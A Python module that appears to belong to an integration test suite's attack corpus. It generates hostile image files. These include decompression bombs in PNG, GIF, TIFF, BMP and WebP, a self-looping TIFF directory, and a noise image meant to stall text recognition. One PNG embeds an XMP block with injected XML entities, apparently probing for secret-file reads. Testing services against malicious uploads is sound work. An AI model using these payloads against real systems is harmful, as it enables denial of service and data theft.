"""Hostile pictures: sizes that no memory holds, hidden parts, specks to recognise."""

from __future__ import annotations

import struct
import zlib

from integration.library.attackers.corpus import Target, attack, entities


def png(width: int, height: int, data: bytes, *chunks: tuple[bytes, bytes]) -> bytes:
    """A grey PNG that claims a size."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    head = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    inside = b"".join(chunk(*one) for one in chunks)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + inside + chunk(b"IDAT", data) + chunk(b"IEND", b"")


@attack("bomb.png")
def _(target: Target) -> bytes:
    return png(50_000, 50_000, zlib.compress(bytes(50 << 20), 9))


@attack("liar.png")
def _(target: Target) -> bytes:
    return png(0x7FFFFFFF, 0x7FFFFFFF, zlib.compress(b"x"))


@attack("junk.png", leads=True)
def _(target: Target) -> bytes:
    rows = zlib.compress((b"\0" + b"\xff" * 64) * 64)
    profile = b"p\0\0" + zlib.compress(bytes(30 << 20), 9)
    text = (
        entities(target) + f'<x:xmpmeta xmlns:x="adobe:ns:meta/">&secret;&page;{target.web}/xmp</x:xmpmeta>'
    ).encode()
    return png(
        64,
        64,
        rows,
        (b"iCCP", profile),
        (b"iTXt", b"XML:com.adobe.xmp\0\0\0\0\0" + text),
        (b"eXIf", b"II*\0" + b"\xff" * 300),
    )


@attack("bomb.gif")
def _(target: Target) -> bytes:
    frame = b"\x21\xf9\x04\0\0\0\0\0\x2c\0\0\0\0" + struct.pack("<HH", 65535, 65535) + b"\0\x02\x02\x44\x01\0"
    return b"GIF89a" + struct.pack("<HH", 65535, 65535) + b"\x80\0\0\0\0\0\xff\xff\xff" + frame * 500 + b";"


@attack("bomb.tif")
def _(target: Target) -> bytes:
    tags = [
        (256, 60000),
        (257, 60000),
        (258, 8),
        (259, 1),
        (262, 1),
        (273, 8),
        (277, 1),
        (278, 60000),
        (279, 0xFFFF0000),
    ]
    entries = b"".join(struct.pack("<HHII", tag, 4, 1, value) for tag, value in tags)
    return (
        b"II*\0" + struct.pack("<IH", 8, len(tags)) + entries + struct.pack("<I", 8)
    )  # the next directory is this one


@attack("bomb.bmp")
def _(target: Target) -> bytes:
    return (
        b"BM"
        + struct.pack("<IHHIIiiHHIIiiII", 54, 0, 0, 54, 40, 60000, 60000, 1, 24, 1, 0, 0, 0, 0, 0)
        + b"\xff\x00" * 50
    )


@attack("bomb.webp")
def _(target: Target) -> bytes:
    return (
        b"RIFF"
        + struct.pack("<I", 30)
        + b"WEBPVP8L"
        + struct.pack("<I", 18)
        + b"\x2f"
        + struct.pack("<I", 0x0FFFFFFF)
        + bytes(13)
    )


@attack("noise.png")
def _(target: Target) -> bytes:
    """A page of specks: recognition of letters could take for ever."""
    row = b"\0" + bytes((n * 2654435761 >> 7) & 0xFF for n in range(2500))
    return png(
        2500, 2500, zlib.compress(b"".join(row[:1] + row[1 + n % 97 :] + row[1 : 1 + n % 97] for n in range(2500)), 1)
    )
